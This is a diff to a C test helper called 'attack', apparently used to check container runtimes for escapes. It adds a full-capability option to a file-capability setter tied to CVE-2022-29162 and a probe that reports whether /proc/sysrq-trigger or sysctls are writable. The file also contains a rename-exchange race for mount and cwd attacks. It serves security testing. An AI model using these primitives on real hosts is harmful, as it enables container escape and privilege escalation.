@@ -23,14 +23,18 @@
  *   attack swap STOP SECONDS DIR TARGET CAND...
  *       The racer of the mount and cwd attacks: renameat2(RENAME_EXCHANGE) TARGET
  *       with each CAND in turn and back, in DIR, until STOP exists or SECONDS pass.
- *   attack setfcap FILE
+ *   attack setfcap FILE [permitted]
  *       Give FILE file capabilities: every capability inheritable and effective,
- *       none permitted (CVE-2022-29162: only a non-empty inheritable set of the
+ *       none permitted unless asked (CVE-2022-29162: only a non-empty inheritable set of the
  *       process turns these into real capabilities).
  *   attack asuser UID FILE ARGS...
  *       setgroups/setresgid/setresuid to UID (as a container's root may) and exec.
  *   attack caps
  *       Print CapInh/CapPrm/CapEff/CapBnd/CapAmb of this process.
+ *   attack openw PATH...
+ *       Open each PATH for writing and close it again without writing a byte (so
+ *       /proc/sysrq-trigger or a sysctl are probed, never triggered or changed):
+ *       "ESCAPE writable PATH" when that works.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -354,10 +358,11 @@ static int swap(int argc, char **argv)
 
 /* ---- capabilities ------------------------------------------------------------- */
 
-static int setfcap(const char *file)
+static int setfcap(const char *file, int permitted)
 {
     /* struct vfs_cap_data, revision 2: effective bit, {permitted, inheritable} x 2. */
-    uint32_t v[5] = {0x02000000u | 0x000001u, 0, 0xffffffffu, 0, 0xffffffffu};
+    uint32_t p = permitted ? 0xffffffffu : 0;
+    uint32_t v[5] = {0x02000000u | 0x000001u, p, 0xffffffffu, p, 0xffffffffu};
     if (setxattr(file, "security.capability", v, sizeof(v), 0) < 0) {
         perror("setxattr security.capability");
         return 1;
@@ -394,6 +399,22 @@ static int caps(void)
     return 0;
 }
 
+static int openw(int argc, char **argv)
+{
+    int escapes = 0;
+    for (int i = 2; i < argc; i++) {
+        int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY);
+        if (fd >= 0) {
+            printf("ESCAPE writable %s\n", argv[i]);
+            escapes++;
+            close(fd);
+        } else {
+            printf("not writable %s: %s\n", argv[i], strerror(errno));
+        }
+    }
+    return escapes ? 3 : 0;
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -411,11 +432,13 @@ int main(int argc, char **argv)
     if (!strcmp(cmd, "swap"))
         return swap(argc, argv);
     if (!strcmp(cmd, "setfcap") && argc > 2)
-        return setfcap(argv[2]);
+        return setfcap(argv[2], argc > 3 && !strcmp(argv[3], "permitted"));
     if (!strcmp(cmd, "asuser"))
         return asuser(argc, argv);
     if (!strcmp(cmd, "caps"))
         return caps();
+    if (!strcmp(cmd, "openw"))
+        return openw(argc, argv);
     fprintf(stderr, "attack: unknown command %s\n", cmd);
     return 2;
 }
